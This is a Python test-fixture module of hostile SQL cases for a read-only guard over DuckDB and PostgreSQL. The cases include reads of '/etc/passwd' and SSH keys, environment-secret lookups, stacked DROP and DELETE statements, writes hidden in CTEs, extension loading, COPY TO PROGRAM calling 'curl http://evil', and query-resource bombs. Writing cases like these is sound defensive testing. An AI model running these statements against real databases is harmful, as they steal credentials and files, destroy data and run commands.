"""Hostile SQL for the analytics guard and the read-only DuckDB engine.

Each case has a label, a category and the stage that must stop it:
* "guard": `check_read_only` refuses it (a 400 ValidationError);
* "engine": it is a legitimate read that asks too much (cross joins, recursive bombs); the parser
  cannot tell, so the engine's timeout or memory limit stops it (also a 4xx).

Placeholders, replaced by the tests: `__SECRET__` is a file (with a secret in it) next to the
warehouse, `__OUT__` a directory nothing may be written to, `__DB__` the warehouse file itself.
The warehouse the engine tests build has `gold.fact_orders`, `gold.customers`, `silver.events`,
`bronze.raw`.

`PARSER_DIFFERENTIALS` is separate: texts where a naive splitter, sqlglot and DuckDB could
disagree about where statements, strings or comments end. The guard may accept them, but only
as the one harmless SELECT it normalised them to, which is what the engine then runs.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    label: str
    sql: str
    category: str
    stage: str = "guard"
    dialect: str = "duckdb"


def _cases(
    category: str, *pairs: tuple[str, str], stage: str = "guard", dialect: str = "duckdb"
) -> list[Attack]:
    return [Attack(label, sql, category, stage, dialect) for label, sql in pairs]


S = "'__SECRET__'"

FILE_READERS = [
    "read_csv",
    "read_csv_auto",
    "read_json",
    "read_json_auto",
    "read_json_objects",
    "read_json_objects_auto",
    "read_ndjson",
    "read_ndjson_auto",
    "read_ndjson_objects",
    "read_parquet",
    "read_text",
    "read_blob",
    "read_duckdb",
    "read_xlsx",
    "parquet_scan",
    "parquet_metadata",
    "parquet_schema",
    "parquet_file_metadata",
    "parquet_kv_metadata",
    "sniff_csv",
    "glob",
    "iceberg_scan",
    "delta_scan",
    "sqlite_scan",
    "st_read",
]

ATTACKS: list[Attack] = [
    # -- file readers, each by its plain name ------------------------------------------------
    *_cases("file_read", *((f"{fn}()", f"SELECT * FROM {fn}({S})") for fn in FILE_READERS)),
    # -- the same readers in every spelling and position -----------------------------------
    *_cases(
        "file_read_spelling",
        ("UPPER CASE", f"SELECT * FROM READ_CSV({S})"),
        ("mixed case", f"SELECT * FROM ReAd_CsV_AuTo({S})"),
        ("double-quoted name", f'SELECT * FROM "read_csv"({S})'),
        ("double-quoted upper name", f'SELECT * FROM "READ_TEXT"({S})'),
        ("schema-qualified", f"SELECT * FROM main.read_csv({S})"),
        ("catalog-qualified", f"SELECT * FROM system.main.read_text({S})"),
        ("FROM-first syntax", f"FROM read_csv({S})"),
        ("in a subquery", f"SELECT * FROM (SELECT * FROM read_text({S})) AS t"),
        ("in a CTE", f"WITH s AS (SELECT * FROM read_text({S})) SELECT * FROM s"),
        ("in a scalar subquery", f"SELECT (SELECT content FROM read_text({S})) AS c"),
        (
            "in WHERE IN",
            f"SELECT * FROM gold.fact_orders WHERE status IN (SELECT content FROM read_text({S}))",
        ),
        ("in a LATERAL join", f"SELECT * FROM gold.fact_orders, LATERAL read_text({S})"),
        ("in a JOIN", f"SELECT * FROM gold.fact_orders o JOIN read_csv({S}) s ON true"),
        ("in a UNION branch", f"SELECT 'x' AS c UNION ALL SELECT content FROM read_text({S})"),
        ("called as a scalar", f"SELECT read_text({S})"),
        ("method-call syntax", f"SELECT {S}.read_text()"),
        ("list of paths", f"SELECT * FROM read_csv([{S}, {S}])"),
        ("with named options", f"SELECT * FROM read_csv({S}, header = false, columns = {{'c': 'VARCHAR'}})"),
        ("comment between name and paren", f"SELECT * FROM read_csv/**/({S})"),
        ("newline and spaces before paren", f"SELECT * FROM read_text \n (\n {S} \n)"),
        ("path built by concatenation", "SELECT * FROM read_text('/' || 'etc' || '/passwd')"),
        ("path from a subquery", "SELECT * FROM read_text((SELECT '__SECRET__'))"),
        ("inside DESCRIBE", f"DESCRIBE SELECT * FROM read_csv({S})"),
        ("inside EXPLAIN", f"EXPLAIN SELECT * FROM read_text({S})"),
        ("inside EXPLAIN ANALYZE", f"EXPLAIN ANALYZE SELECT * FROM read_text({S})"),
        ("glob over a directory", "SELECT * FROM glob('/etc/*')"),
        ("hidden after a comment", f"/* innocent */ SELECT * FROM read_text({S})"),
        ("in ORDER BY subquery", f"SELECT 1 ORDER BY (SELECT count(*) FROM read_text({S}))"),
        ("in a window frame subquery", f"SELECT sum(1) OVER () FROM read_blob({S})"),
        ("in a VALUES row", f"VALUES ((SELECT content FROM read_text({S})))"),
    ),
    # -- strings and paths used as table names (DuckDB replacement scans) ------------------
    *_cases(
        "file_as_table",
        ("quoted string as table", f"SELECT * FROM {S}"),
        ("FROM-first string", f"FROM {S}"),
        ("double-quoted path as table", 'SELECT * FROM "__SECRET__"'),
        ("file:// URL", "SELECT * FROM 'file://__SECRET__'"),
        ("s3 URL", "SELECT * FROM 's3://bucket/data.parquet'"),
        ("https URL", "SELECT * FROM 'https://example.com/data.csv'"),
        ("gcs URL", "SELECT * FROM 'gs://bucket/data.parquet'"),
        ("hugging face URL", "SELECT * FROM 'hf://datasets/x/y/data.parquet'"),
        ("/etc/passwd", "SELECT * FROM '/etc/passwd'"),
        ("home directory", "SELECT * FROM '~/.ssh/id_rsa'"),
        ("glob pattern", "SELECT * FROM '/tmp/*.csv'"),
        ("relative file", "SELECT * FROM 'data.parquet'"),
        ("windows path", "SELECT * FROM 'C:\\data\\x.csv'"),
        ("aliased", f"SELECT t.* FROM {S} AS t"),
        ("joined to a real table", f"SELECT * FROM gold.fact_orders JOIN {S} ON true"),
        ("in a CTE", f"WITH c AS (FROM {S}) SELECT * FROM c"),
        ("in a scalar subquery", f"SELECT (SELECT count(*) FROM {S})"),
        ("DESCRIBE a file", f"DESCRIBE {S}"),
        ("the warehouse file itself", "SELECT * FROM '__DB__'"),
        ("another duckdb file", "SELECT * FROM '__OUT__/other.duckdb'"),
    ),
    # -- writing files --------------------------------------------------------------------
    *_cases(
        "copy_export",
        ("COPY table TO csv", "COPY gold.fact_orders TO '__OUT__/orders.csv'"),
        (
            "COPY query TO parquet",
            "COPY (SELECT * FROM gold.fact_orders) TO '__OUT__/o.parquet' (FORMAT parquet)",
        ),
        ("COPY lower case", "copy gold.fact_orders to '__OUT__/o.json'"),
        ("COPY FROM file", f"COPY gold.fact_orders FROM {S}"),
        ("COPY FROM DATABASE", "COPY FROM DATABASE w TO other"),
        ("EXPORT DATABASE", "EXPORT DATABASE '__OUT__/export'"),
        ("EXPORT DATABASE parquet", "EXPORT DATABASE '__OUT__/export' (FORMAT parquet)"),
        ("IMPORT DATABASE", "IMPORT DATABASE '__OUT__/export'"),
        ("EXPLAIN COPY", "EXPLAIN COPY gold.fact_orders TO '__OUT__/o.csv'"),
        ("EXPLAIN ANALYZE COPY", "EXPLAIN ANALYZE COPY gold.fact_orders TO '__OUT__/o.csv'"),
        ("COPY after comment", "/* report */ COPY gold.fact_orders TO '__OUT__/o.csv'"),
        ("COPY with comment inside", "COPY/**/gold.fact_orders/**/TO '__OUT__/o.csv'"),
    ),
    # -- other databases -------------------------------------------------------------------
    *_cases(
        "attach",
        ("ATTACH new file", "ATTACH '__OUT__/new.duckdb' AS n"),
        ("ATTACH memory", "ATTACH ':memory:' AS m"),
        ("ATTACH IF NOT EXISTS", "ATTACH IF NOT EXISTS '__OUT__/x.duckdb' AS x"),
        ("ATTACH the secret as sqlite", f"ATTACH {S} AS s (TYPE sqlite)"),
        ("ATTACH postgres", "ATTACH 'dbname=postgres host=127.0.0.1' AS p (TYPE postgres)"),
        ("ATTACH the warehouse again", "ATTACH '__DB__' AS rw"),
        ("ATTACH the warehouse read-write", "ATTACH '__DB__' AS rw (READ_WRITE)"),
        (
            "ATTACH again, then write through it",
            "ATTACH '__DB__' AS rw; CREATE TABLE rw.gold.evil AS SELECT 1 AS a",
        ),
        ("DETACH", "DETACH w"),
        ("USE another schema", "USE gold"),
        ("USE memory", "USE memory"),
    ),
    # -- extensions -------------------------------------------------------------------------
    *_cases(
        "extensions",
        ("INSTALL httpfs", "INSTALL httpfs"),
        ("install lower", "install httpfs"),
        ("FORCE INSTALL", "FORCE INSTALL httpfs"),
        ("INSTALL FROM community", "INSTALL shellfs FROM community"),
        ("INSTALL from URL", "INSTALL 'https://example.com/x.duckdb_extension'"),
        ("LOAD httpfs", "LOAD httpfs"),
        ("LOAD a file", "LOAD '__OUT__/evil.duckdb_extension'"),
        ("UPDATE EXTENSIONS", "UPDATE EXTENSIONS"),
        ("CREATE EXTENSION REPOSITORY", "CREATE EXTENSION REPOSITORY example.com"),
        ("list extensions", "SELECT * FROM duckdb_extensions()"),
        ("grammar extension", "SELECT * FROM add_grammar_extension('x')"),
        ("external resource", "SELECT * FROM create_external_resource('x', MAP {}, 'r', NULL, true, 1, 1)"),
        (
            "register resource type",
            "SELECT * FROM register_external_resource_type('t','k','c','s','d','r','l')",
        ),
    ),
    # -- settings, secrets and the environment ---------------------------------------------
    *_cases(
        "settings",
        ("SET external access on", "SET enable_external_access = true"),
        ("SET GLOBAL", "SET GLOBAL enable_external_access = true"),
        ("SET SESSION threads", "SET SESSION threads = 64"),
        ("SET memory_limit", "SET memory_limit = '100GB'"),
        ("unlock configuration", "SET lock_configuration = false"),
        ("widen allowed_directories", "SET allowed_directories = ['/']"),
        ("turn autoinstall on", "SET autoinstall_known_extensions = true"),
        ("SET VARIABLE", "SET VARIABLE x = 1"),
        ("SET search_path", "SET search_path = 'silver'"),
        ("set lower case", "set threads to 1"),
        ("RESET one", "RESET memory_limit"),
        ("RESET ALL", "RESET ALL"),
        ("PRAGMA threads", "PRAGMA threads = 64"),
        ("PRAGMA enable_profiling", "PRAGMA enable_profiling"),
        ("PRAGMA database_list", "PRAGMA database_list"),
        ("PRAGMA show_tables", "PRAGMA show_tables"),
        ("PRAGMA import_database", "PRAGMA import_database('__OUT__/export')"),
        ("current_setting", "SELECT current_setting('memory_limit')"),
        ("current_setting upper", "SELECT CURRENT_SETTING('temp_directory')"),
        ("current_setting method call", "SELECT 'home_directory'.current_setting()"),
        ("getenv", "SELECT getenv('HOME')"),
        ("getenv of a secret", "SELECT getenv('AIRFLOW__DATABASE__SQL_ALCHEMY_CONN')"),
        ("duckdb_settings()", "SELECT * FROM duckdb_settings()"),
        ("pg_settings view", "SELECT * FROM pg_settings"),
        ("pg_catalog.pg_settings", "SELECT * FROM pg_catalog.pg_settings"),
        ("which_secret", "SELECT * FROM which_secret('s3://bucket/x', 's3')"),
        ("duckdb_secrets()", "SELECT * FROM duckdb_secrets()"),
        ("CREATE SECRET", "CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 'v')"),
        ("CREATE PERSISTENT SECRET", "CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'k', SECRET 'v')"),
        ("DROP SECRET", "DROP SECRET s"),
        ("load_aws_credentials", "CALL load_aws_credentials()"),
        ("write_log", "SELECT write_log('x')"),
    ),
    # -- several statements -----------------------------------------------------------------
    *_cases(
        "stacked",
        ("then DROP", "SELECT 1; DROP TABLE gold.fact_orders"),
        ("then DROP, no space", "SELECT 1;DROP TABLE gold.fact_orders"),
        ("two selects", "SELECT 1; SELECT 2"),
        ("empty statement between", "SELECT 1;;SELECT 2"),
        ("then DELETE after a line comment", "SELECT 1; -- report\nDELETE FROM gold.fact_orders"),
        (
            "comment before the semicolon",
            "SELECT 1 /* c */ ; INSERT INTO gold.fact_orders SELECT * FROM gold.fact_orders",
        ),
        ("then ATTACH", "SELECT 1; ATTACH '__OUT__/x.duckdb' AS x"),
        ("then COPY", "SELECT 1; COPY gold.fact_orders TO '__OUT__/o.csv'"),
        ("then SET", "SELECT 1; SET threads = 1"),
        ("then CHECKPOINT", "SELECT 1; CHECKPOINT"),
        ("quote-doubled string then DROP", "SELECT 'a'';'; DROP TABLE gold.fact_orders"),
        ("newlines around the semicolon", "SELECT 1\n;\nUPDATE gold.fact_orders SET total_amount = 0"),
        ("EXPLAIN then DROP", "EXPLAIN SELECT 1; DROP TABLE gold.fact_orders"),
        ("then an unparseable statement", "SELECT 1; EXPORT DATABASE '__OUT__/e'"),
        ("backslash is not an escape", "SELECT '\\'; DROP TABLE gold.fact_orders; --'"),
        ("line comment ends before the semicolon", "select 1 --\n;drop table gold.fact_orders"),
        ("transaction wrapper", "BEGIN; DELETE FROM gold.fact_orders; COMMIT"),
        ("three statements", "SELECT 1; SELECT 2; SELECT 3"),
    ),
    # -- writes -----------------------------------------------------------------------------
    *_cases(
        "dml",
        (
            "INSERT VALUES",
            "INSERT INTO gold.fact_orders VALUES (0, 0, DATE '2024-01-01', 'EU', 'x', 1.0, 'new')",
        ),
        ("INSERT SELECT", "INSERT INTO gold.fact_orders SELECT * FROM gold.fact_orders"),
        ("INSERT OR REPLACE", "INSERT OR REPLACE INTO gold.fact_orders SELECT * FROM gold.fact_orders"),
        ("INSERT from a file", f"INSERT INTO gold.fact_orders SELECT * FROM read_csv({S})"),
        ("UPDATE", "UPDATE gold.fact_orders SET total_amount = 0"),
        (
            "UPDATE FROM",
            "UPDATE gold.fact_orders SET total_amount = 0 FROM gold.dim_customer c "
            "WHERE c.customer_id = fact_orders.customer_id",
        ),
        ("DELETE", "DELETE FROM gold.fact_orders"),
        (
            "DELETE USING",
            "DELETE FROM gold.fact_orders USING gold.dim_customer c "
            "WHERE c.customer_id = fact_orders.customer_id",
        ),
        ("delete lower case", "delete from gold.fact_orders where true"),
        (
            "MERGE",
            "MERGE INTO gold.fact_orders o USING gold.fact_orders s ON o.order_id = s.order_id "
            "WHEN MATCHED THEN DELETE",
        ),
        ("TRUNCATE", "TRUNCATE gold.fact_orders"),
        ("TRUNCATE TABLE", "TRUNCATE TABLE gold.fact_orders"),
        ("DML in parentheses", "(DELETE FROM gold.fact_orders)"),
        ("EXPLAIN ANALYZE DELETE", "EXPLAIN ANALYZE DELETE FROM gold.fact_orders"),
        ("EXPLAIN UPDATE", "EXPLAIN UPDATE gold.fact_orders SET total_amount = 0"),
        ("DESCRIBE a DELETE", "DESCRIBE DELETE FROM gold.fact_orders RETURNING *"),
    ),
    # -- writes hidden inside a read ------------------------------------------------------
    *_cases(
        "dml_in_cte",
        ("DELETE RETURNING in CTE", "WITH x AS (DELETE FROM gold.fact_orders RETURNING *) SELECT * FROM x"),
        (
            "UPDATE RETURNING in CTE",
            "WITH x AS (UPDATE gold.fact_orders SET total_amount = 0 RETURNING id) SELECT * FROM x",
        ),
        (
            "INSERT RETURNING in CTE",
            "WITH x AS (INSERT INTO gold.fact_orders SELECT * FROM gold.fact_orders RETURNING id) SELECT 1",
        ),
        (
            "second CTE writes",
            "WITH a AS (SELECT 1), b AS (DELETE FROM gold.fact_orders RETURNING id) SELECT * FROM a",
        ),
        (
            "nested CTE writes",
            "WITH a AS (WITH b AS (DELETE FROM gold.fact_orders RETURNING id) SELECT * FROM b) "
            "SELECT * FROM a",
        ),
        (
            "CTE in a subquery writes",
            "SELECT * FROM (WITH d AS (DELETE FROM gold.fact_orders RETURNING id) SELECT * FROM d) t",
        ),
        ("DELETE as a subquery", "SELECT * FROM (DELETE FROM gold.fact_orders RETURNING *) t"),
        (
            "recursive CTE with a write",
            "WITH RECURSIVE d AS (DELETE FROM gold.fact_orders RETURNING id) SELECT * FROM d",
        ),
        (
            "CTE write then EXPLAIN",
            "EXPLAIN WITH x AS (DELETE FROM gold.fact_orders RETURNING *) SELECT * FROM x",
        ),
    ),
    # -- schema changes ----------------------------------------------------------------------
    *_cases(
        "ddl",
        ("CREATE TABLE", "CREATE TABLE gold.x (a INT)"),
        ("CREATE TABLE AS", "CREATE TABLE gold.x AS SELECT * FROM gold.fact_orders"),
        ("CREATE OR REPLACE TABLE", "CREATE OR REPLACE TABLE gold.fact_orders AS SELECT 1 AS a"),
        ("CREATE TEMP TABLE", "CREATE TEMP TABLE t AS SELECT * FROM gold.fact_orders"),
        ("CREATE TABLE from a file", f"CREATE TABLE gold.x AS SELECT * FROM read_csv({S})"),
        ("CREATE VIEW", "CREATE VIEW gold.v AS SELECT * FROM gold.fact_orders"),
        ("CREATE VIEW over a file", f"CREATE VIEW gold.v AS SELECT * FROM {S}"),
        ("CREATE MACRO", "CREATE MACRO f(x) AS x + 1"),
        ("CREATE TABLE MACRO", "CREATE MACRO t() AS TABLE SELECT * FROM gold.fact_orders"),
        ("CREATE FUNCTION", "CREATE FUNCTION f(x) AS x + 1"),
        ("CREATE SCHEMA", "CREATE SCHEMA evil"),
        ("CREATE SEQUENCE", "CREATE SEQUENCE s"),
        ("CREATE INDEX", "CREATE INDEX i ON gold.fact_orders (order_id)"),
        ("CREATE TYPE", "CREATE TYPE mood AS ENUM ('a', 'b')"),
        ("DROP TABLE", "DROP TABLE gold.fact_orders"),
        ("DROP TABLE IF EXISTS", "DROP TABLE IF EXISTS gold.fact_orders"),
        ("DROP SCHEMA CASCADE", "DROP SCHEMA gold CASCADE"),
        ("DROP VIEW", "DROP VIEW gold.v"),
        ("ALTER TABLE ADD COLUMN", "ALTER TABLE gold.fact_orders ADD COLUMN x INT"),
        ("ALTER TABLE RENAME", "ALTER TABLE gold.fact_orders RENAME TO o2"),
        ("ALTER VIEW", "ALTER VIEW gold.v RENAME TO v2"),
        ("COMMENT ON", "COMMENT ON TABLE gold.fact_orders IS 'x'"),
    ),
    # -- SELECT ... INTO (creates a table) ---------------------------------------------------
    *_cases(
        "select_into",
        ("SELECT INTO", "SELECT * INTO newt FROM gold.fact_orders"),
        ("SELECT INTO TEMP", "SELECT 1 AS a INTO TEMP t"),
        ("SELECT INTO in a CTE body", "WITH x AS (SELECT 1 AS a) SELECT * INTO t2 FROM x"),
    ),
    # -- CALL, PRAGMA functions, housekeeping ----------------------------------------------
    *_cases(
        "call_pragma",
        ("CALL pragma_version", "CALL pragma_version()"),
        ("CALL duckdb_settings", "CALL duckdb_settings()"),
        ("CALL checkpoint", "CALL checkpoint()"),
        ("CHECKPOINT", "CHECKPOINT"),
        ("FORCE CHECKPOINT", "FORCE CHECKPOINT"),
        ("VACUUM", "VACUUM"),
        ("ANALYZE", "ANALYZE"),
        ("pragma_table_info by string", "SELECT * FROM pragma_table_info('silver.events')"),
        ("pragma_database_size", "SELECT * FROM pragma_database_size()"),
        ("pragma_storage_info", "SELECT * FROM pragma_storage_info('gold.fact_orders')"),
        ("checkpoint() table function", "SELECT * FROM checkpoint()"),
        ("force_checkpoint()", "SELECT * FROM force_checkpoint()"),
        ("enable_logging()", "SELECT * FROM enable_logging()"),
        ("SUMMARIZE", "SUMMARIZE gold.fact_orders"),
        ("PIVOT statement", "PIVOT gold.fact_orders ON region USING sum(total_amount)"),
    ),
    # -- transactions ------------------------------------------------------------------------
    *_cases(
        "transactions",
        ("BEGIN", "BEGIN"),
        ("BEGIN TRANSACTION", "BEGIN TRANSACTION"),
        ("START TRANSACTION", "START TRANSACTION"),
        ("COMMIT", "COMMIT"),
        ("ROLLBACK", "ROLLBACK"),
        ("ABORT", "ABORT"),
        ("END", "END"),
        ("SAVEPOINT", "SAVEPOINT s"),
    ),
    # -- prepared statements -----------------------------------------------------------------
    *_cases(
        "prepared",
        ("PREPARE a DELETE", "PREPARE p AS DELETE FROM gold.fact_orders"),
        ("PREPARE a SELECT", "PREPARE q AS SELECT 1"),
        ("EXECUTE", "EXECUTE p"),
        ("DEALLOCATE", "DEALLOCATE p"),
    ),
    # -- SQL given as a string (past every check) --------------------------------------------
    *_cases(
        "sql_from_string",
        ("query() runs a DELETE", "SELECT * FROM query('DELETE FROM gold.fact_orders RETURNING *')"),
        ("query() reads a file", "SELECT * FROM query('SELECT * FROM read_text(''__SECRET__'')')"),
        ("QUERY upper", "SELECT * FROM QUERY('SELECT 42')"),
        ("query_table by name", "SELECT * FROM query_table('silver.events')"),
        ("query_table list", "SELECT * FROM query_table(['silver.events', 'bronze.raw'])"),
        (
            "json_execute_serialized_sql",
            "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
        ),
    ),
    # -- metadata that shows paths, other tenants' tables, other sessions --------------------
    *_cases(
        "metadata",
        ("duckdb_databases()", "SELECT * FROM duckdb_databases()"),
        ("duckdb_databases view", "SELECT path FROM duckdb_databases"),
        ("system.main.duckdb_databases", "SELECT * FROM system.main.duckdb_databases"),
        ("duckdb_tables()", "SELECT * FROM duckdb_tables()"),
        ("duckdb_tables view", "SELECT sql FROM duckdb_tables"),
        ("duckdb_temporary_files", "SELECT * FROM duckdb_temporary_files()"),
        ("duckdb_memory", "SELECT * FROM duckdb_memory()"),
        ("duckdb_logs", "SELECT * FROM duckdb_logs"),
        ("sqlite_master", "SELECT * FROM sqlite_master"),
        ("pragma_database_list view", "SELECT * FROM pragma_database_list"),
        ("unknown table function", "SELECT * FROM test_all_types()"),
        ("repeat_row generator", "SELECT * FROM repeat_row(1, num_rows = 10)"),
    ),
    # -- parameters that are not named ---------------------------------------------------------
    *_cases(
        "parameters",
        ("? placeholder", "SELECT ?"),
        ("$1 placeholder", "SELECT $1"),
        ("? in WHERE", "SELECT * FROM gold.fact_orders WHERE id = ?"),
        ("$1 in LIMIT", "SELECT * FROM gold.fact_orders LIMIT $1"),
    ),
    # -- unparseable or not one of the accepted statements: fail closed ---------------------
    *_cases(
        "fail_closed",
        ("typo", "SELEC 1"),
        ("keywords only", "SELECT FROM WHERE"),
        ("lone parenthesis", ")"),
        ("hash comment", "SELECT 1 # x"),
        ("unterminated string", "SELECT 'abc"),
        ("unterminated block comment", "SELECT 1 /* open"),
        ("zero-width space in keyword", "SEL\u200bECT 1"),
        ("fullwidth semicolon", "SELECT 1\uff1b DROP TABLE gold.fact_orders"),
        ("fullwidth keyword", "\uff24\uff32\uff2f\uff30 TABLE gold.fact_orders"),
        ("SHOW a table", "SHOW gold.fact_orders"),
        ("SHOW DATABASES", "SHOW DATABASES"),
        ("empty", ""),
        ("whitespace only", "  \n\t "),
        ("only a semicolon", ";"),
        ("only a comment", "-- nothing here"),
        ("deeply nested parentheses", "SELECT " + "(" * 3000 + "1" + ")" * 3000),
        ("longer than the limit", "SELECT 1" + " " * 100_001),
        ("unicode escape identifier", "SELECT U&\"\\0072ead_text\"('__SECRET__')"),
        ("EXPLAIN with options", "EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1"),
        ("EXPLAIN of nothing", "EXPLAIN"),
        ("EXPLAIN of EXPLAIN", "EXPLAIN EXPLAIN SELECT 1"),
        ("CALL a procedure", "CALL proc()"),
    ),
    # -- comments, case and layout tricks around a write -------------------------------------
    *_cases(
        "comments_casing",
        ("inline comments", "/**/DELETE/**/FROM/**/gold.fact_orders"),
        ("alternating case", "dElEtE fRoM gold.fact_orders"),
        ("line comment first", "-- read only\nDROP TABLE gold.fact_orders"),
        ("SELECT inside a comment", "/* SELECT */ DROP TABLE gold.fact_orders"),
        ("nested comment first", "/* /* nested */ still comment */ DROP TABLE gold.fact_orders"),
        ("comment inside keywords", "DROP/**/TABLE gold.fact_orders"),
        ("tabs and newlines", "\tDROP\n\tTABLE\n gold.fact_orders"),
        ("CRLF", "SELECT 1;\r\nDROP TABLE gold.fact_orders"),
        ("non-breaking space", "DROP\u00a0TABLE gold.fact_orders"),
        ("leading BOM", "\ufeffDELETE FROM gold.fact_orders"),
        (
            "comment hides the SELECT",
            "-- SELECT 1\nINSERT INTO gold.fact_orders SELECT * FROM gold.fact_orders",
        ),
        ("mixed-case COPY", "CoPy gold.fact_orders To '__OUT__/o.csv'"),
    ),
    # -- row locks -------------------------------------------------------------------------
    *_cases(
        "locks",
        ("FOR UPDATE", "SELECT * FROM gold.fact_orders FOR UPDATE"),
        ("FOR SHARE", "SELECT * FROM gold.fact_orders FOR SHARE"),
    ),
    # -- resource bombs: legitimate reads the engine must stop (timeout / memory) -----------
    *_cases(
        "resource_bomb",
        ("10^12-row cross join", "SELECT count(*) FROM range(1000000) a, range(1000000) b"),
        ("three-way cross join", "SELECT count(*) FROM range(100000) a, range(100000) b, range(100000) c"),
        (
            "self join on a low-cardinality key",
            "SELECT count(*) FROM gold.fact_orders a JOIN gold.fact_orders b ON a.region = b.region",
        ),
        (
            "cross join of a table with itself",
            "SELECT max(a.total_amount * b.total_amount) "
            "FROM gold.fact_orders a CROSS JOIN gold.fact_orders b",
        ),
        (
            "infinite recursive CTE",
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        ),
        (
            "doubling recursive CTE",
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, range(2)) "
            "SELECT count(*) FROM r",
        ),
        ("huge range", "SELECT count(*) FROM range(1000000000000)"),
        ("huge generate_series sum", "SELECT sum(x) FROM generate_series(1, 1000000000000) AS t(x)"),
        ("huge list", "SELECT list(range) FROM range(2000000000)"),
        ("huge string_agg", "SELECT length(string_agg(repeat('x', 1000), ',')) FROM range(100000000)"),
        ("huge sort", "SELECT * FROM range(3000000000) ORDER BY random() LIMIT 1"),
        (
            "huge distinct",
            "SELECT count(DISTINCT (a.range, b.range)) FROM range(1000000) a, range(1000000) b",
        ),
        stage="engine",
    ),
    # -- PostgreSQL connections -------------------------------------------------------------
    *_cases(
        "postgres",
        ("pg_read_file", "SELECT pg_read_file('/etc/passwd')"),
        ("pg_read_file upper", "SELECT PG_READ_FILE('/etc/passwd')"),
        ("pg_read_file quoted", "SELECT \"pg_read_file\"('/etc/passwd')"),
        ("pg_catalog.pg_read_file", "SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)"),
        ("pg_read_binary_file", "SELECT pg_read_binary_file('/etc/passwd')"),
        ("pg_ls_dir", "SELECT * FROM pg_ls_dir('/')"),
        ("pg_ls_logdir", "SELECT * FROM pg_ls_logdir()"),
        ("pg_stat_file", "SELECT * FROM pg_stat_file('/etc/passwd')"),
        ("lo_import", "SELECT lo_import('/etc/passwd')"),
        ("lo_export", "SELECT lo_export(1234, '/tmp/x')"),
        ("lo_get", "SELECT lo_get(1234)"),
        ("dblink", "SELECT * FROM dblink('host=10.0.0.1', 'SELECT 1') AS t(a int)"),
        ("dblink_exec", "SELECT dblink_exec('host=10.0.0.1', 'DROP TABLE x')"),
        ("pg_sleep", "SELECT pg_sleep(60)"),
        ("pg_sleep_for", "SELECT pg_sleep_for('1 minute')"),
        ("current_setting", "SELECT current_setting('data_directory')"),
        ("set_config", "SELECT set_config('default_transaction_read_only', 'off', false)"),
        ("query_to_xml", "SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')"),
        ("table_to_xml", "SELECT table_to_xml('other_tenant.secrets', true, true, '')"),
        ("ts_stat runs a query", "SELECT * FROM ts_stat('SELECT to_tsvector(secret) FROM other.t')"),
        ("pg_terminate_backend", "SELECT pg_terminate_backend(1)"),
        ("pg_advisory_lock", "SELECT pg_advisory_lock(1)"),
        ("pg_notify", "SELECT pg_notify('c', 'x')"),
        ("nextval", "SELECT nextval('orders_id_seq')"),
        ("txid_current", "SELECT txid_current()"),
        ("pg_reload_conf", "SELECT pg_reload_conf()"),
        ("pg_shadow", "SELECT * FROM pg_catalog.pg_shadow"),
        ("pg_authid", "SELECT rolpassword FROM pg_authid"),
        ("pg_hba_file_rules", "SELECT * FROM pg_hba_file_rules"),
        ("pg_stat_activity", "SELECT query FROM pg_stat_activity"),
        ("pg_settings", "SELECT * FROM pg_settings"),
        ("COPY TO PROGRAM", "COPY t TO PROGRAM 'curl http://evil'"),
        ("COPY FROM PROGRAM", "COPY t FROM PROGRAM 'id'"),
        ("COPY TO STDOUT", "COPY (SELECT * FROM t) TO STDOUT"),
        ("DO block", "DO $$ BEGIN PERFORM pg_sleep(1); END $$"),
        ("CREATE FUNCTION", "CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql"),
        ("SHOW a setting", "SHOW data_directory"),
        ("SET ROLE", "SET ROLE postgres"),
        ("RESET ROLE", "RESET ROLE"),
        ("SET TRANSACTION read write", "SET TRANSACTION READ WRITE"),
        ("LISTEN", "LISTEN c"),
        ("NOTIFY", "NOTIFY c"),
        ("LOCK TABLE", "LOCK TABLE t"),
        ("FOR UPDATE", "SELECT * FROM t FOR UPDATE"),
        ("FOR NO KEY UPDATE", "SELECT * FROM t FOR NO KEY UPDATE"),
        ("EXPLAIN ANALYZE DELETE", "EXPLAIN ANALYZE DELETE FROM t"),
        ("EXPLAIN options DELETE", "EXPLAIN (ANALYZE) DELETE FROM t"),
        ("DELETE in CTE", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"),
        ("SELECT INTO", "SELECT * INTO t2 FROM t"),
        ("CREATE TEMP TABLE", "CREATE TEMP TABLE x AS SELECT 1"),
        ("VACUUM", "VACUUM t"),
        ("REINDEX", "REINDEX TABLE t"),
        ("CLUSTER", "CLUSTER t"),
        ("DISCARD ALL", "DISCARD ALL"),
        ("REFRESH MATERIALIZED VIEW", "REFRESH MATERIALIZED VIEW v"),
        ("CALL", "CALL proc()"),
        ("$1 placeholder", "SELECT * FROM t WHERE id = $1"),
        ("stacked", "SELECT 1; DROP TABLE t"),
        ("dollar-quoted stacked", "SELECT $$x$$; DROP TABLE t"),
        ("inet_server_addr", "SELECT inet_server_addr()"),
        dialect="postgres",
    ),
]

#: Texts that splitters and parsers read differently. The guard may accept them, but then only as
#: the single harmless statement it normalised them to.
PARSER_DIFFERENTIALS: list[Attack] = _cases(
    "differential",
    ("nested comment hides a DROP", "/* /* */ ; DROP TABLE gold.fact_orders; /* */ */ SELECT 1"),
    ("E-string with backslash-quote", "SELECT E'a\\' ; DROP TABLE gold.fact_orders; --'"),
    ("dollar-quoted semicolon", "SELECT $$ ; DROP TABLE gold.fact_orders; $$"),
    ("tagged dollar quote", "SELECT $x$ ; DROP TABLE gold.fact_orders; $x$"),
    ("semicolon in a quoted alias", 'SELECT 1 AS "a; DROP TABLE gold.fact_orders"'),
    ("semicolon in a line comment", "SELECT 1 -- ; DROP TABLE gold.fact_orders"),
    ("semicolon in a block comment", "SELECT 1 /* ; DROP TABLE gold.fact_orders */"),
